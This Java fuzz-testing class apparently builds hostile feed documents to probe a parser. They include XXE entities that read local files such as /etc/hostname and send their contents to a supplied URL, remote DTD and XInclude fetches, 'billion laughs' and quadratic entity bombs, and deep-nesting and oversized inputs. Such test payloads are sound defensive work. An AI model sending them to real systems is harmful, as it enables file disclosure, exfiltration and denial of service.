package io.wirewatch.fuzz;

import java.util.LinkedHashMap;
import java.util.Map;

/** Feed documents that mean harm; wherever one can name an address it names the same. */
final class Attacks {
  private static final String ITEM = "<item><title>%s</title></item>";
  private static final String XSI = "http://www.w3.org/2001/XMLSchema-instance";

  private final Map<String, String> documents = new LinkedHashMap<>();
  private final String url;

  private Attacks(String url) {
    this.url = url;
  }

  /** Each by its name; they are no longer than {@code size} by much. */
  static Map<String, String> of(String url, int size) {
    Attacks attacks = new Attacks(url);
    attacks.addresses();
    attacks.entities(size);
    attacks.depths(size);
    attacks.lengths(size);
    return attacks.documents;
  }

  private void addresses() {
    doctype("external entity", "[<!ENTITY x SYSTEM '" + url + "'>]", "&x;");
    doctype("public entity", "[<!ENTITY x PUBLIC 'x' '" + url + "'>]", "&x;");
    doctype("parameter entity", "[<!ENTITY % x SYSTEM '" + url + "'> %x;]", "a");
    doctype(
        "entity out of band",
        "[<!ENTITY % f SYSTEM 'file:///etc/hostname'><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '"
            + url
            + "?%f;'>\"> %e; %s;]",
        "a");
    doctype("external DTD", "SYSTEM '" + url + "'", "a");
    doctype("public DTD", "PUBLIC '-//x//y' '" + url + "'", "a");
    doctype("notation", "[<!NOTATION n SYSTEM '" + url + "'><!ENTITY x SYSTEM 'a' NDATA n>]", "a");
    doctype("local file", "[<!ENTITY x SYSTEM 'file:///etc/hostname'>]", "&x;");
    doctype("directory", "[<!ENTITY x SYSTEM 'file:///etc/'>]", "&x;");
    doctype("jar", "[<!ENTITY x SYSTEM 'jar:" + url + "!/x'>]", "&x;");
    put("stylesheet", "<?xml-stylesheet href='" + url + "' type='text/xsl'?>", "a");
    put(
        "xinclude",
        "",
        "<x:include xmlns:x='http://www.w3.org/2001/XInclude' href='" + url + "'/>");
    put("schema", "", "<y xmlns:i='" + XSI + "' i:noNamespaceSchemaLocation='" + url + "'/>");
    put("namespace", "", "<y xmlns='" + url + "'/>");
    put("base", "", "<y xml:base='" + url + "'/>");
    put("picture", "", "&lt;img src='" + url + "'>&lt;link rel=stylesheet href='" + url + "'>a");
  }

  private void entities(int size) {
    StringBuilder laughs = new StringBuilder("[<!ENTITY l0 'ha'>");
    for (int i = 1; i < 20; i++) {
      laughs.append("<!ENTITY l%d '%s'>".formatted(i, ("&l" + (i - 1) + ";").repeat(10)));
    }
    doctype("exponential entities", laughs + "]", "&l19;");
    doctype(
        "quadratic entities",
        "[<!ENTITY q '" + "q".repeat(size / 2) + "'>]",
        "&q;".repeat(size / 6));
    doctype("entity of itself", "[<!ENTITY x '&y;'><!ENTITY y '&x;'>]", "&x;");
    doctype("open doctype", "[".repeat(size), "a");
  }

  private void depths(int size) {
    put("deep elements", "", "<d>".repeat(size / 7) + "</d>".repeat(size / 7));
    put("deep, never closed", "", "<d>".repeat(size / 3));
    put("deep items", "", "<item>".repeat(size / 6));
    documents.put(
        "deep XHTML",
        "<feed xmlns='http://www.w3.org/2005/Atom'><entry><title>a</title><content type='xhtml'>"
            + "<div>".repeat(size / 11)
            + "x"
            + "</div>".repeat(size / 11)
            + "</content></entry></feed>");
    put("deep HTML", "", "&lt;div&gt;".repeat(size / 11));
    put("deep formatting", "", "&lt;b&gt;&lt;p&gt;".repeat(size / 18));
    String json = "{\"version\": \"https://jsonfeed.org/version/1.1\", \"items\": ";
    documents.put("deep JSON", json + "[".repeat(size));
    documents.put("deep JSON objects", json + "[" + "{\"a\":".repeat(size / 5));
    documents.put("many in JSON", json + "[{\"title\": \"a\"}," + "{},".repeat(size / 3) + "{}]}");
  }

  private void lengths(int size) {
    StringBuilder attributes = new StringBuilder("<y");
    for (int i = 0; attributes.length() < size; i++) {
      attributes.append(" a").append(i).append("=''");
    }
    put("attributes", "", attributes + "/>");
    put("same attribute", "", "<y" + " a=''".repeat(size / 5) + "/>");
    put("namespaces", "", "<y" + attributes.substring(2).replace(" a", " xmlns:a") + "/>");
    put("long name", "", "<" + "n".repeat(size) + "/>");
    put("long end name", "", "</" + "n".repeat(size) + ">");
    put("long attribute name", "", "<y " + "n".repeat(size) + "=''/>");
    put("long attribute", "", "<y a='" + "v".repeat(size) + "'/>");
    put("long declaration", "", "<!" + "n".repeat(size) + ">");
    put("long text", "", "t".repeat(size));
    put("long CDATA", "", "<![CDATA[" + "<".repeat(size) + "]]>");
    put("brackets", "", "&lt;".repeat(size / 4));
    put("tags", "", "<y/>".repeat(size / 4));
    put("references", "", "&#65;".repeat(size / 5));
    documents.put("items", "<rss>" + "<item><title>a</title></item>".repeat(size / 30) + "</rss>");
    documents.put(
        "empty items",
        "<rss><item><title>a</title></item>" + "<item/>".repeat(size / 7) + "</rss>");
    documents.put("links", "<rss><item><title>a" + "<link/>".repeat(size / 7) + "</rss>");
    documents.put(
        "long date", "<rss><item><title>a</title><pubDate>" + "1 May ".repeat(size / 6) + "</rss>");
  }

  private void doctype(String name, String declared, String title) {
    put(name, "<!DOCTYPE rss " + declared + ">", title);
  }

  private void put(String name, String prolog, String title) {
    documents.put(
        name,
        "<?xml version='1.0'?>"
            + prolog
            + "<rss version='2.0'><channel><item><title>a</title></item>"
            + ITEM.formatted(title)
            + "<item><title>a</title><description>"
            + title
            + "</description></item></channel></rss>");
  }
}
